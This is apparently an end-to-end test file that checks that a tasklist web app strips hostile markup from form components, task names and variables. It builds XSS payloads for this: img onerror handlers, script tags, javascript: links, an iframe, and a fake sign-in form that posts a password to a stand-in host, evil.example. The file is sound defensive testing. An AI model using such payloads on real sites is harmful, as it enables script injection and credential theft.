/**
 * Issue 17: owner-supplied markup and user-supplied text never run or mislead in the tasklist. A form's html and
 * text components carrying scripts, event handlers, a fake sign-in form and links to another origin, a task name
 * and variables carrying the same, are shown in Chromium: no script runs, no element of the page carries an event
 * handler (the markup was cleaned before the content security policy had to stop it), and no form control or
 * foreign link is left.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { browserMissing, launchBrowser, screenshot, signedInContext } from './web/browser.js';
import { api, deployXml, ensureWebBuilt, signIn, startWebServer, type WebServer } from './web/web-server.js';
import { definitions, end, flow, start } from '../helpers/bpmn-builder.js';

const missing = browserMissing();
if (missing) console.warn(missing);

const mark = (where: string) => `window.__xss=(window.__xss||[]).concat('${where}')`;
const payload = (where: string) =>
  `<img src="x" onerror="${mark(where)}"><script>${mark(`${where}-script`)}</script>` +
  `<form action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>` +
  `<a class="evil" href="https://evil.example/${where}">sign in again</a><a class="evil" href="javascript:${mark(`${where}-href`)}">open</a>`;

const FORM = {
  type: 'default',
  id: 'Form_xss',
  schemaVersion: 16,
  components: [
    {
      type: 'html',
      id: 'Html_owner',
      content: `<p id="own-text">Dear {{customerName}}</p>${payload('html')}<a id="own-link" href="/tasks">back to tasks</a><iframe src="https://evil.example/frame"></iframe>`,
    },
    {
      type: 'text',
      id: 'Text_owner',
      text: `Complaint: {{complaint}}\n\n[evil](https://evil.example/md) [own](/tasks)\n\n${payload('text')}`,
    },
    { type: 'textfield', id: 'Field_resolution', key: 'resolution', label: 'Resolution' },
  ],
};

const TASK_NAME = `<img src=x onerror="${mark('task-name')}">Review`;
const MODEL = definitions('xss', [
  start('S'),
  `<bpmn:userTask id="Task_review" name="${escapeXml(TASK_NAME)}"><bpmn:extensionElements><zeebe:assignmentDefinition candidateGroups="cs-agents" /><zeebe:formDefinition formKey="Form_xss" /></bpmn:extensionElements></bpmn:userTask>`,
  end('E'),
  flow('S', 'Task_review'),
  flow('Task_review', 'E'),
]);

describe.skipIf(missing)('e2e/web: hostile markup in forms, task names and variables', { timeout: 90_000 }, () => {
  let web: WebServer;
  let browser: Browser;

  beforeAll(async () => {
    ensureWebBuilt();
    [web, browser] = await Promise.all([startWebServer(), launchBrowser()]);
    await api(web, 'owner1', 'PUT', '/api/forms/Form_xss', FORM);
    await deployXml(web, MODEL);
    await api(web, 'owner1', 'POST', '/api/instances', {
      definitionKey: 'xss',
      businessKey: 'XSS-1',
      variables: { customerName: payload('variable-html'), complaint: payload('variable-text') },
    });
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await web?.close();
  });

  it('runs no script and leaves no form control or foreign link in the task and its form', async () => {
    // when: a member of staff opens the task
    const page = await open('agent1');
    await page.goto('/tasks');
    await page.locator('.task-item').first().click();
    await page.click('[data-tab="form"]').catch(() => undefined);
    await page.waitForSelector('.fjs-form #own-text');
    await page.waitForSelector('.fjs-form .fjs-form-field-text');
    await screenshot(page, 'tasks-hostile-markup');

    // then: nothing ran, and the policy never had to step in
    expect(await page.evaluate(() => (window as unknown as { __xss?: string[] }).__xss)).toBeUndefined();
    // no element of the page carries an event handler: the markup was cleaned, the policy did not have to stop it
    // (Chromium reports the handlers the sanitiser's inert parse sees; none may come from the page itself)
    expect(await handlersInPage(page)).toEqual([]);
    expect((await violations(page)).filter((v) => !v.includes('/assets/safe-html-'))).toEqual([]);
    // the task name is text, not markup
    await expect(page.locator('.task-item').first().textContent()).resolves.toContain('onerror=');
    expect(await page.locator('img[onerror]').count()).toBe(0);
    // the form keeps its own text and link, and its one real field
    await expect(page.locator('#own-text').textContent()).resolves.toContain('Dear <img');
    await expect(page.locator('#own-link').getAttribute('href')).resolves.toBe('/tasks');
    expect(await page.locator('.fjs-form-field-text a[href="/tasks"]').count()).toBe(1);
    expect(await page.locator('.fjs-form input').count()).toBe(1);
    // but no sign-in form, password field, button, frame or link to another origin
    const form = page.locator('.fjs-form');
    expect(await form.locator('form, input[type=password], input[name=password], button, iframe, script').count()).toBe(
      0,
    );
    expect(await page.locator('a[href^="https://evil"], a[href^="javascript:"], iframe[src*="evil"]').count()).toBe(0);
    await expect(form.locator('.fjs-form-field-text').textContent()).resolves.toContain('sign in again');
  });

  async function open(username: string): Promise<Page> {
    const context = await signedInContext(browser, web.baseUrl, await signIn(web.baseUrl, username));
    await context.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        const w = window as unknown as { __csp?: string[] };
        w.__csp = [
          ...(w.__csp ?? []),
          `${event.violatedDirective} ${event.blockedURI} ${event.sample} ${event.sourceFile}:${event.lineNumber}`,
        ];
      });
    });
    return context.newPage();
  }
});

// helpers

function handlersInPage(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((el) =>
      [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName} ${a.name}`),
    ),
  );
}

function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? []);
}

function escapeXml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
}
